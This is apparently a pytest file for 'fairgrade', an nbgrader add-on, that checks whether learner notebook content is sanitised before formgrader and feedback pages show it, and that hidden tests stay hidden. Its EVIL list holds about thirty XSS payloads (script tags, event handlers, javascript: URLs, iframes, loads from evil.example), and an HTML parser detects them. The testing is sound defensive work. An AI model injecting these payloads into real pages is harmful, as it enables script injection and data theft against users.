"""Nothing that learners write or print runs in anybody's browser."""

import shutil
import signal
import time
from collections import Counter
from html.parser import HTMLParser

import nbformat
import pytest
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from nbgrader.server_extensions.formgrader import handlers
from traitlets.config import Config

from fairgrade import feedback
from fairgrade.feedback import HideTests, harmless_html
from fairgrade.preprocessors import configure

from .small_course import RIGHT, Course, nbgrader

pytestmark = pytest.mark.xdist_group("fairgrade_feedback")

EVIL = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/seen.png>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<svg onload=alert(1)><circle/></svg>",
    "<a href='javascript:alert(1)'>here</a>",
    "<a href=' java\tscript:alert(1)'>here</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>here</a>",
    "[here](javascript:alert(1))",
    "[here](<javascript:alert(1)>)",
    "![seen](https://evil.example/seen.png)",
    "<javascript:alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<form action=https://evil.example><input name=q><button>Go</button></form>",
    "<style>body { display: none }</style>",
    "<div style='position:fixed;top:0;width:100%'>Your score: 5 of 5</div>",
    "<div style='background:url(https://evil.example/seen.png)'>x</div>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "</pre></div></body></html><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "$\\href{javascript:alert(1)}{x}$",
]
RUNS = {"script", "iframe", "object", "embed", "form", "svg", "base", "link", "style"}
DATA = "data:text", "data:image/s"
RUNS |= {"meta", "input", "button", "math", "noscript"}


class Danger(HTMLParser):
    """Collects what could do something, as a browser would read it."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        if tag in RUNS:
            self.found.append(tag)
        for name, value in attributes:
            value = "".join((value or "").split()).lower()
            if name.startswith("on") or name in ("srcdoc", "formaction"):
                self.found.append(f"{tag} {name}")
            elif name in ("src", "href", "action", "data"):
                if "script:" in value or value.startswith(
                    ("data:text", "data:image/s")
                ):
                    self.found.append(f"{tag} {name}={value}")
                if "evil.example" in value and tag != "a":
                    self.found.append(f"{tag} {name}={value}")
            elif name == "style" and ("url(" in value or "position" in value):
                self.found.append(f"{tag} style={value}")


def page(notebook, template, folder):
    """Return a notebook as formgrader or feedback shows it."""
    config = Config()
    configure(config)
    config.HTMLExporter.template_name = template
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    config.HTMLExporter.extra_template_paths = [str(folder)]
    resources = {
        "base_url": "",
        "index": 0,
        "total": 1,
        "notebook_path": "x",
        "notebook_id": "twice",
        "nbgrader": {
            "notebook": "twice",
            "score": 1,
            "max_score": 1,
            "late_penalty": 0,
        },
    }
    exporter = HTMLExporter(config=config)
    return exporter.from_notebook_node(notebook, resources)[0]


@pytest.fixture
def css(tmp_path):
    """A folder with the file that the feedback template includes."""
    (tmp_path / "bootstrap.min.css").write_text("")
    return tmp_path


def manual(source):
    marks = {"grade": True, "solution": True, "locked": False, "grade_id": "why"}
    meta = {"nbgrader": marks | {"points": 1, "score": 0, "comment": source}}
    return new_markdown_cell(source, metadata=meta)


def cells_with(evil):
    """Return every kind of cell and output that can hold a learner's text."""
    code = new_code_cell(evil, execution_count=1)
    code.outputs = [
        new_output("stream", name="stdout", text=evil),
        new_output("stream", name="stderr", text=evil),
        new_output("error", ename=evil, evalue=evil, traceback=[evil]),
        new_output("execute_result", {"text/plain": evil}, execution_count=1),
        *(
            new_output("display_data", {kind: evil})
            for kind in (
                "text/html",
                "text/markdown",
                "text/latex",
                "image/svg+xml",
                "image/png",
                "image/jpeg",
                "application/javascript",
                "application/json",
                "application/vnd.jupyter.widget-view+json",
                "text/vnd.mermaid",
                "application/pdf",
            )
        ),
        new_output(
            "display_data",
            {"text/html": evil, "image/png": "AAAA"},
            metadata={"text/html": {"isolated": True}, "image/png": {"width": evil}},
        ),
    ]
    code.metadata = {"tags": [evil.replace(",", ".")], "format": evil}
    raw = nbformat.v4.new_raw_cell(evil, metadata={"raw_mimetype": "text/html"})
    text = manual(evil)
    text.attachments = {evil: {"image/svg+xml": "PHN2Zz4=", "text/html": evil}}
    return [text, new_markdown_cell(evil), code, raw]


@pytest.mark.parametrize("template", ["formgrade", "feedback"])
def test_nothing_runs_in_a_browser(template, css):
    plain = new_notebook(cells=[manual("x"), new_code_cell("x")])
    # What the page itself brings: its own scripts, styles and forms.
    own = Counter(Danger(page(plain, template, css)).found)
    # Not all on one page, where one could hide another.
    for start in range(7):
        notebook = new_notebook()
        for evil in EVIL[start::7]:
            notebook.cells += cells_with(evil)
        notebook.metadata = {
            "title": EVIL[start],
            "widgets": {"application/vnd.jupyter.widget-state+json": {"state": EVIL}},
            "language_info": {"name": "python"},
        }
        found = Counter(Danger(page(notebook, template, css)).found)
        # Each answer brings fields for its points, which are the page's own.
        for tag in ("input", "button"):
            assert found.pop(tag, 0) == own[tag] * len(EVIL[start::7])
        assert found <= own, (start, found - own)


@pytest.mark.parametrize("template", ["formgrade", "feedback"])
def test_what_is_harmless_is_still_shown(template, css):
    source = "# Why\n\n**Because** $a < b$ and\n\n| a |\n|---|\n| 1 |\n\n"
    source += "[nbgrader](https://nbgrader.readthedocs.io)"
    code = new_code_cell("print('<b>')", execution_count=1)
    code.outputs = [
        new_output("stream", name="stdout", text="1 < 2"),
        new_output("display_data", {"image/png": "iVBORw0KGgo="}),
        new_output("display_data", {"text/html": "<table><tr><td>7</td></tr></table>"}),
    ]
    html = page(new_notebook(cells=[manual(source), code]), template, css)
    for part in (
        "<strong>Because</strong>",
        "$a &lt; b$",
        "<table>",
        'href="https://nbgrader.readthedocs.io"',
        "1 &lt; 2",
        "data:image/png;base64,iVBORw0KGgo=",
        "<td>7</td>",
    ):
        assert part in html


@pytest.mark.parametrize("evil", EVIL)
def test_washing_twice_changes_nothing(evil):
    once = harmless_html(evil)
    assert harmless_html(once) == once
    assert not Danger(once).found


@pytest.mark.parametrize("slow", ["\\\\(" * 20_000, "<a><b><i>" * 20_000])
def test_no_text_is_worked_on_for_ever(slow, monkeypatch):
    monkeypatch.setattr(feedback, "RENDER_SECONDS", 0.2)
    begun = time.monotonic()
    html = feedback.safe_markdown({}, f"{slow} <script>")
    assert time.monotonic() - begun < 10
    assert html.startswith("<pre>")
    assert "<script>" not in html
    assert feedback.safe_markdown({}, "*quick*") == "<p><em>quick</em></p>\n"
    handler = signal.getsignal(signal.SIGALRM)
    with feedback.seconds(60):
        assert signal.getsignal(signal.SIGALRM) != handler
    assert signal.getsignal(signal.SIGALRM) == handler
    assert feedback.safe_markdown({}, r"\\( x \\) " * 100).count("x") == 100


def test_learners_have_no_hidden_tests():
    lines = "\n".join(f"number_{n} = {n}" for n in range(40_000))
    marks = {"grade": False, "solution": True, "grade_id": "f", "locked": False}
    source = f"### BEGIN HIDDEN TESTS\n{lines}"
    answer = new_code_cell(source, execution_count=1, metadata={"nbgrader": marks})
    answer.outputs = [new_output("stream", text="a\n" * 20_000)]
    test = new_code_cell(HIDDEN_CELL, execution_count=2)
    begun = time.monotonic()
    notebook, _ = HideTests().preprocess(new_notebook(cells=[answer, test]), {})
    assert time.monotonic() - begun < 10
    assert notebook.cells[0].source == source
    assert "answers" not in notebook.cells[1].source


HIDDEN_CELL = """\
assert double(1) == 2
### BEGIN HIDDEN TESTS
answers = [double(n) for n in (-3, 0)]
assert answers == [-6, 0], answers
### END HIDDEN TESTS"""


@pytest.mark.parametrize(
    "source",
    [
        HIDDEN_CELL,
        HIDDEN_CELL.replace("### ", "# "),
        HIDDEN_CELL.replace("### END HIDDEN TESTS", ""),
        "if True:\n" + "\n".join(f"    {x}" for x in HIDDEN_CELL.splitlines()),
    ],
    ids=["usual", "other mark", "never closed", "indented"],
)
def test_hidden_tests_are_cut_out_however_they_are_marked(source):
    cell = new_code_cell(source, execution_count=1)
    line = "answers = [double(n) for n in (-3, 0)]"
    cell.outputs = [
        new_output("stream", text=f"look: {line}\nand me\n"),
        new_output("error", ename="E", evalue="[5]", traceback=[line, "E: [5]"]),
        new_output("display_data", {"text/plain": line}),
    ]
    notebook, _ = HideTests().preprocess(new_notebook(cells=[cell]), {})
    shown = nbformat.writes(notebook)
    assert "answers" not in shown
    assert "assert double(1) == 2" in shown
    assert "# (hidden tests)" in shown
    assert "and me" in shown
    assert "E: [5]" in shown


@pytest.mark.filterwarnings("ignore")  # nbgrader's own code warns
def test_feedback_of_the_command_is_harmless(tmp_path):
    """From end to end: graded, fed back, and read."""
    course = Course(tmp_path)
    assert course.fairgrade("generate", "twice") == 0
    evil = "print('<script>alert(1)</script>')  # </script><script>alert(2)</script>"
    course.hand_in("ada", f"{evil}\n{RIGHT}", why="<script>alert(3)</script> [x](y)")
    assert course.fairgrade("autograde", "twice", "--jobs=1") == 0
    assert course.fairgrade("feedback", "twice") == 0
    html = (course.folder / "feedback/ada/twice/twice.html").read_text()
    assert "<script>alert" not in html
    assert "&lt;script&gt;alert(3)" in html
    assert "minus three" not in html
    shutil.rmtree(course.folder / "feedback")
    # nbgrader's own command does the same, once it is told to.
    config = course.folder / "nbgrader_config.py"
    config.write_text(config.read_text() + "import fairgrade\nfairgrade.configure(c)\n")
    assert nbgrader(course).generate_feedback("twice")["success"]
    assert (course.folder / "feedback/ada/twice/twice.html").read_text() == html
